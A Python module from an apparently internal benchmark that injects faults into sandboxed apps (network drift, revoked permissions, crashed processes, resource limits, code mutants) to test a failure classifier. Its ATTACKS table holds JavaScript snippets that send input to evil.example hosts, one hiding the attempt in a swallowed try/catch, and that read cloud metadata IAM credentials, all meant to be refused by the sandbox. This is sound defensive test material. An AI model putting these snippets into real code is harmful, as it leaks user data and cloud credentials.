"""What goes wrong with apps in use. Each injector yields cases, labelled by the fault that it injects.

They were written from the one-line definitions of the classes, by somebody who had not read the rules.
"""

from __future__ import annotations

import contextlib
import os
import random
import re
import resource as limits
import subprocess
import sys
from collections.abc import Callable, Collection, Iterator, Mapping
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any, Final

from benchmarks import token_mutants
from benchmarks.classify.drift import Drift, drifts, harmless
from benchmarks.classify.library import Template
from benchmarks.classify.scene import (
    NONE,
    SIGKILL,
    SIGSEGV,
    Reaping,
    Scene,
    Shooting,
    same_end,
    zygotes,
)
from mapp.keys import remove_key
from mapp.model.app import MANIFEST, PROPERTIES, SOURCE, App
from mapp.model.arguments import with_defaults
from mapp.model.manifest import Manifest
from mapp.model.outcome import Failed, Outcome, Value
from mapp.model.values import canonical
from mapp.ops.heal.word import Word, say_wrong
from mapp.ops.run.permissions import revoke
from mapp.sandbox.app_job import job_for, judge
from mapp.sandbox.executor import Executor, Grant, Job, Program
from mapp.sandbox.executors.select import open_executor
from mapp.validate.mutation.mutants import sampled_mutants

Play = Callable[[Scene], None]
Row = Mapping[str, Any]
MUTANTS: Final = 8
"""How many mutants of an app each of the two kinds of operators may give."""
TRIES: Final = 8
"""How often a fault that depends on chance is waited for."""
WALL_MS: Final = 150
CROWD: Final = 8
"""How many processes compute all the time on the processor of a script that hardly gets any of it."""
LOWEST: Final = 19
"""The lowest priority that a process can have."""
HEAVY: Final = 2.0
"""How many times as long as its limit a script computes that only needs more time."""

_COMPUTED: Final = re.compile(r", (\d+) ms of it computing\Z")


class NoFault(Exception):
    """The fault did not come about: the case is none."""


@dataclass(frozen=True, kw_only=True, slots=True)
class Case:
    """One injected fault: the app, the class that its cause has, and what breaks and uses the app.

    `engine` is the engine that runs it, "" for the usual one. `first` says that the library does not have the
    app: `play` installs it, with the fault. `unseen` says that somebody thought of the fault who did not know
    the rules, and that it was played once before anybody could tune a rule to it. `number` counts the cases
    of an app.
    """

    app: str
    label: str
    fault: str
    play: Play
    engine: str = ""
    first: bool = False
    unseen: bool = False
    number: int = 0


def cases(template: Template, seed: int) -> Iterator[Case]:
    """Yields all cases of an app."""
    chance = random.Random(f"{seed} {template.app.name}")
    for maker in MAKERS:
        yield from maker(template, chance)


def web(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields what happens to the services of an app."""
    grants = template.app.manifest.capabilities.http
    writes = any("POST" in grant.methods for grant in grants)
    reads = any("GET" in grant.methods for grant in grants)
    for drift in drifts() if grants else ():
        if (reads and drift.reads) or (writes and drift.writes):
            for row in template.inputs[: 7 if drift.label == "ambiguous" else 2]:
                yield _case(template, drift.label, drift.name, _drifting(drift, row))


def _drifting(drift: Drift, row: Row) -> Play:
    def play(scene: Scene) -> None:
        scene.network.fault = drift.applied
        scene.network.unreachable = drift.unreachable
        scene.network.seconds = drift.seconds or scene.network.seconds
        scene.use(row, times=1 if drift.label == "ambiguous" else 2)

    return play


def well(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields uses with which nothing is wrong, or nothing that concerns the app."""
    for row in template.inputs[:3]:
        yield _case(template, NONE, "nothing", partial(_used, row=row, times=2))
    for example in template.app.examples:
        if example.error is not None and example.recording is None and example.now is None:
            row = dict(example.input)
            yield _case(template, NONE, "a declared error", partial(_used, row=row))
    if template.app.manifest.capabilities.http:
        for name, fault in harmless():
            for row in template.inputs[:2]:

                def play(scene: Scene, row: Row = row, fault: Any = fault) -> None:
                    scene.network.fault = fault
                    scene.use(row)

                yield _case(template, NONE, name, play)


def callers(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields arguments that the manifest does not allow."""
    for fault, row in spoilt(template.app.manifest, template.inputs[0]):
        yield _case(template, "caller_input", fault, partial(_used, row=row))


def spoilt(manifest: Manifest, good: Row) -> Iterator[tuple[str, Row]]:
    """Yields invalid arguments, with what is wrong about them."""
    yield "an unknown argument", {**good, "verbose_": True}
    for argument in manifest.arguments:
        name, schema = argument.name, argument.schema
        yield f"a wrong type: {name}", {**good, name: {"value": good.get(name)}}
        if argument.required:
            yield f"missing: {name}", {key: value for key, value in good.items() if key != name}
        if schema.minimum is not None:
            yield f"too small: {name}", {**good, name: schema.minimum - 7}
        if schema.enum is not None:
            yield f"not one of the values: {name}", {**good, name: "anything else"}
        if schema.pattern is not None:
            yield f"another form: {name}", {**good, name: "?? !!"}


def permissions(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields runs without one of the capabilities that the app needs, or without all."""
    names = template.app.manifest.capabilities.names
    for taken in [*((name,) for name in names), names] if names else []:
        for row in template.inputs[:3]:

            def play(scene: Scene, taken: tuple[str, ...] = taken, row: Row = row) -> None:
                revoke(scene.world.home, scene.app.name, taken)
                scene.use(row)

            yield _case(template, "permission", f"not granted: {', '.join(taken)}", play)


def keys(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields runs without the secret that the app's host needs."""
    for grant in template.app.manifest.capabilities.http:
        if grant.secret is not None:
            secret = grant.secret.name
            for row in template.inputs[:4]:

                def play(scene: Scene, secret: str = secret, row: Row = row) -> None:
                    remove_key(scene.world.config.config_file, secret)
                    scene.use(row)

                yield _case(template, "credential", "the key was removed", play)


def machine(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields a machine that fails a run: a lost process, no descriptors left, a full disk."""
    capabilities = template.app.manifest.capabilities
    for row in template.inputs[:3]:
        if capabilities.calls:
            yield _case(template, "host_fault", "the sandbox was killed", _shot(SIGKILL, row))
            yield _case(template, "engine_fault", "the engine crashed", _shot(SIGSEGV, row))
        yield _case(template, "host_fault", "no descriptors left", _without_descriptors(row))
        if capabilities.store is not None:
            yield _case(template, "host_fault", "the disk is full", _full(row))
    yield _case(template, "host_fault", "no zygote can start", _no_zygote(template.inputs[0]))
    yield _case(template, "host_fault", "the sandbox is lost", _lost(template))
    yield _case(template, "host_fault", "the sandbox has the lowest priority", _nice(template))


def _shot(number: int, row: Row) -> Play:
    def play(scene: Scene) -> None:
        scene.run_by(Shooting(scene.world.executor, number))
        scene.use(row)

    return play


def _without_descriptors(row: Row) -> Play:
    def play(scene: Scene) -> None:
        for zygote in zygotes():
            with contextlib.suppress(OSError):
                os.kill(zygote, SIGKILL)
        with _few_descriptors(3):
            scene.use(row)

    return play


def _no_zygote(row: Row) -> Play:
    def play(scene: Scene) -> None:
        with _few_descriptors(1):
            scene.use(row)

    return play


def _full(row: Row) -> Play:
    def play(scene: Scene) -> None:
        new = {name: f"{text} again" if name in ("title", "habit") else text for name, text in row.items()}
        with _limited(limits.RLIMIT_FSIZE, 1024):
            scene.use(new)

    return play


def _lost(template: Template) -> Play:
    def play(scene: Scene) -> None:
        scene.replaced(source=with_start(template, WORK["more time"][0].replace("STEPS", "10000000")))
        scene.run_by(Reaping(scene.world.executor))
        scene.use(template.inputs[0])

    return play


def _nice(template: Template) -> Play:
    """Has a script compute for less than its limit, while processes with a higher priority compute too."""
    script, limit = WORK["more time"]

    def play(scene: Scene) -> None:
        text = script.replace("STEPS", str(steps_of(scene.hurried()) // 4))
        scene.replaced(source=with_start(template, text), manifest=_with_limit(template, limit))
        known = {*zygotes()}
        with open_executor(engine=scene.world.config.engine) as own:
            own.run(Job(program=Program(source="function main() {}")))
            with _crowded({*zygotes()} - known):
                scene.run_by(own)
                scene.use(template.inputs[0])

    return play


@contextlib.contextmanager
def _crowded(processes: Collection[int]) -> Iterator[None]:
    """Leaves processes, and what they start, little of one processor, which others use all the time."""
    processor = {min(os.sched_getaffinity(0))}
    for process in processes:
        os.setpriority(os.PRIO_PROCESS, process, LOWEST)
        os.sched_setaffinity(process, processor)
    program = f"import os\nos.sched_setaffinity(0, {processor})\nwhile True: pass"
    others = [subprocess.Popen([sys.executable, "-I", "-S", "-c", program]) for _ in range(CROWD)]
    try:
        yield
    finally:
        for other in others:
            other.kill()
            other.wait()


@contextlib.contextmanager
def _limited(what: int, most: int) -> Iterator[None]:
    soft, hard = limits.getrlimit(what)
    limits.setrlimit(what, (most, hard))
    try:
        yield
    finally:
        limits.setrlimit(what, (soft, hard))


@contextlib.contextmanager
def _few_descriptors(left: int) -> Iterator[None]:
    """Leaves only so many descriptors: the others are taken."""
    highest = max(int(path.name) for path in Path("/proc/self/fd").iterdir())
    taken: list[int] = []
    with _limited(limits.RLIMIT_NOFILE, highest + 2):
        with contextlib.suppress(OSError):
            while True:
                taken.append(os.dup(0))
        for number in taken[:left]:
            os.close(number)
        try:
            yield
        finally:
            for number in taken[left:]:
                os.close(number)


def engines(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields correct scripts that one of the two engines gets wrong."""
    for name, script in ENGINE.items():
        source = with_start(template, script)
        for row in template.inputs[:1]:

            def play(scene: Scene, source: str = source, row: Row = row) -> None:
                scene.replaced(source=source)
                scene.use(row, times=2)

            yield _case(template, "engine_fault", name, play, engine="dukpy", first=True)


def chances(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields scripts that see time or chance which nobody recorded, and fail now and then because of it."""
    names = template.app.manifest.capabilities.calls
    leak = Grant(clock=True, random=True, calls=names)
    for name, script in CHANCE.items():
        source = with_start(template, script)
        for row in template.inputs[:2]:

            def play(scene: Scene, source: str = source, row: Row = row) -> None:
                scene.replaced(source=source)
                scene.leaks(leak)
                for _ in range(TRIES):
                    if isinstance(scene.use(row).outcome, Failed):
                        break

            yield _case(template, "nondeterminism", name, play, first=True)


def work(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields scripts that do nothing wrong, and need somewhat more than their limits allow."""
    for name, (script, limit) in WORK.items():
        if "[limits]" in template.files[MANIFEST].decode():
            continue
        manifest = _with_limit(template, limit)
        for row in template.inputs[:2]:

            def play(scene: Scene, script: str = script, manifest: str = manifest, row: Row = row) -> None:
                hurried = scene.hurried()
                text = script.replace("STEPS", str(steps_of(hurried))) if "STEPS" in script else script
                scene.replaced(source=with_start(template, text), manifest=manifest)
                scene.run_by(hurried)
                work_hard(scene, row)

            yield _case(template, "resource", name, play, first=True)


def _with_limit(template: Template, limit: str) -> str:
    return f"{template.files[MANIFEST].decode()}\n[limits]\n{limit}\n"


def work_hard(scene: Scene, row: Row) -> None:
    """Uses an app that needs more than its limits until the machine lets it reach them.

    Raises NoFault if it never does: the machine is busy, or faster than it was.
    """
    for _ in range(TRIES):
        end = scene.use(row)
        detail = scene.world.journal.run(end.run)[0].detail if end.run else ""
        found = _COMPUTED.search(detail)
        waited = found is not None and int(found[1]) < 0.7 * WALL_MS
        if isinstance(end.outcome, Failed) and not waited:
            return
    raise NoFault


_steps: dict[str, int] = {}


def steps_of(executor: Executor) -> int:
    """Returns how many steps of a loop take `HEAVY` times `WALL_MS` on this machine."""
    if executor.engine in _steps:
        return _steps[executor.engine]
    body = WORK["more time"][0].replace("STEPS", "1000000")
    program = Program(source=f"function main() {{{body}\n  return sum;\n}}")
    job = Job(program=program, wall_ms=30_000)
    taken = min(executor.run(job).wall_ms for _ in range(3))
    _steps[executor.engine] = int(1_000_000 * HEAVY * WALL_MS / taken)
    return _steps[executor.engine]


def attacks(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields scripts that try what their manifest does not declare; the host refuses it."""
    if "http" not in template.app.manifest.capabilities.calls:
        return
    host = template.app.manifest.capabilities.http[0].host
    for name, script in ATTACKS.items():
        source = with_start(template, script.replace("HOST", host))
        for row in template.inputs[:2]:

            def play(scene: Scene, source: str = source, row: Row = row) -> None:
                scene.replaced(source=source)
                scene.use(row)

            yield _case(template, "security", name, play)


def predicates(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields predicates that are wrong themselves: the app does what its examples say."""
    old = template.files.get(PROPERTIES, b"").decode()
    for name, text in PREDICATES.items():

        def play(scene: Scene, text: str = text) -> None:
            scene.replaced(properties=f"{old}\n{text}\n")
            scene.use(template.inputs[0], times=2)

        yield _case(template, "test_bug", name, play)


def bugs(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields mutants of the app, as its first version and as an update of a version that was right."""
    for name, source in mutants(template.app):
        inputs = list(template.inputs)
        chance.shuffle(inputs)
        for label, first in (("code_bug", True), ("regression", False)):

            def play(scene: Scene, source: str = source, inputs: list[Row] = inputs) -> None:
                scene.replaced(source=source)
                for row in inputs[:4]:
                    if isinstance(scene.use(row).outcome, Failed):
                        break

            yield _case(template, label, name, play, first=first)


def opinions(template: Template, chance: random.Random) -> Iterator[Case]:
    """Yields mutants that answer plainly and wrongly, and a person who says what the answer should be.

    Every other one is an update of a version that was right.
    """
    capabilities = template.app.manifest.capabilities
    if capabilities.names:
        return  # nobody knows the right answer beforehand
    for at, (name, source) in enumerate(mutants(template.app)):
        yield _case(template, "expectation", name, _said_wrong(template, source), first=at % 2 == 0)


def _said_wrong(template: Template, source: str) -> Play:
    def play(scene: Scene) -> None:
        scene.replaced(source=source)
        for row in template.inputs:
            end = scene.use(row)
            if end.threw or scene.said() != NONE:
                break  # it is seen without anybody's word
            right = _right(scene.world.executor, template.app, row)
            if isinstance(right, Value) and not same_end(end.outcome, right):
                say_wrong(scene.world, end.run, Word(expected=canonical(right.output)))
                return
        raise NoFault

    return play


def _right(executor: Executor, app: App, row: Row) -> Outcome:
    """Returns what an app without capabilities gives while nothing is wrong with it."""
    job = job_for(app, with_defaults(app.manifest, dict(row)), now_ms=0, seed=1)
    return judge(app.manifest, executor.run(job))


def mutants(app: App) -> Iterator[tuple[str, str]]:
    """Yields wrong programs with a name: of the gate's own operators, and of those it does not know."""
    own = sampled_mutants(app.source, app.manifest.error_codes, seed=1)
    for mutant, _ in zip(own, range(MUTANTS), strict=False):
        yield f"operator {mutant.operator}, line {mutant.line}", mutant.source
    for other in token_mutants.mutants(app.source)[:MUTANTS]:
        yield f"token, {other.label}", other.source


def with_start(template: Template, script: str) -> str:
    """Returns the app's source with a few lines at the start of its `main`."""
    source = template.files[SOURCE].decode()
    renamed, count = re.subn(
        r"^(async )?function main\(", r"\1function ordinary(", source, flags=re.MULTILINE
    )
    if count != 1:
        raise ValueError(f"{template.app.name} has no plain main")
    return f"{renamed}\nfunction main(input, host) {{\n{script}\n  return ordinary(input, host);\n}}\n"


def _used(scene: Scene, row: Row, times: int = 1) -> None:
    scene.use(row, times=times)


def _case(
    template: Template, label: str, fault: str, play: Play, *, engine: str = "", first: bool = False
) -> Case:
    return Case(app=template.app.name, label=label, fault=fault, play=play, engine=engine, first=first)


ENGINE: Final[Mapping[str, str]] = {
    "capital letters without regard to case": """
  const letters = "Straße".match(/\\p{Lu}/giu);
  if (letters.length !== 6) throw new Error("letters are lost");""",
    "a set difference in a regular expression": """
  if (!new RegExp("^[\\\\p{L}--[a-z]]+$", "v").test("ÄB")) throw new Error("not capital");""",
    "a group name in two alternatives": """
  const { day } = new RegExp("(?<day>\\\\d+)\\\\.|-(?<day>\\\\d+)").exec("on 4. May").groups;
  if (day !== "4") throw new Error("no day");""",
    "flags for a part of a pattern": """
  if (!new RegExp("^(?i:vat)-\\\\d+$").test("VAT-12")) throw new Error("no number");""",
}
CHANCE: Final[Mapping[str, str]] = {
    "one in three fails": """
  if (Math.random() < 0.34) throw new Error("state " + Math.random());""",
    "one in three returns nothing": """
  if (Math.random() < 0.34) return undefined;""",
    "fails on some days": """
  if (new Date().getUTCDate() % 3 === 0) return host.nothing.at(0);""",
}
WORK: Final[Mapping[str, tuple[str, str]]] = {
    "more memory": (
        """
  const rows = [];
  for (let at = 0; at < 100000; at += 1) rows.push({ at, text: "row " + at });
  if (rows.length === 0) throw new Error("empty");""",
        "memory_mb = 16",
    ),
    "more time": (
        """
  let sum = 0;
  for (let at = 0; at < STEPS; at += 1) sum = (sum * 31 + at) % 9973;
  if (sum < 0) throw new Error("negative");""",
        f"wall_ms = {WALL_MS}",
    ),
}
ATTACKS: Final[Mapping[str, str]] = {
    "sends its input to another host": """
  host.http({ method: "POST", url: "https://collect.evil.example/in", body: JSON.stringify(input) });""",
    "reads the cloud's metadata": """
  host.http({ url: "http://169.254.169.254/latest/meta-data/iam/security-credentials/" });""",
    "looks for services on this machine": """
  host.http({ url: "https://127.0.0.1:8443/admin" });""",
    "deletes what it may only read": """
  host.http({ method: "DELETE", url: "https://HOST/everything" });""",
    "leaves TLS": """
  host.http({ url: "http://HOST/v1/status" });""",
    "swallows the refusal": """
  try {
    host.http({ url: "https://paste.evil.example/?q=" + encodeURIComponent(JSON.stringify(input)) });
  } catch {}""",
}
PREDICATES: Final[Mapping[str, str]] = {
    "a misspelt name": """
function prop_output_is_there(input, output) {
  return outputs !== undefined;
}""",
    "reads a field that no output has": """
function prop_has_a_total(input, output) {
  return output.summary_of_all.total >= 0;
}""",
    "contradicts the examples": """
function prop_is_empty(input, output) {
  return JSON.stringify(output) === "[]";
}""",
    "does not return a yes or no": """
function prop_is_good(input, output) {
  const good = output !== null;
}""",
}
MAKERS: Final = (
    web, well, callers, permissions, keys, machine, engines, chances, work, attacks, predicates, bugs,
    opinions,
)  # fmt: skip
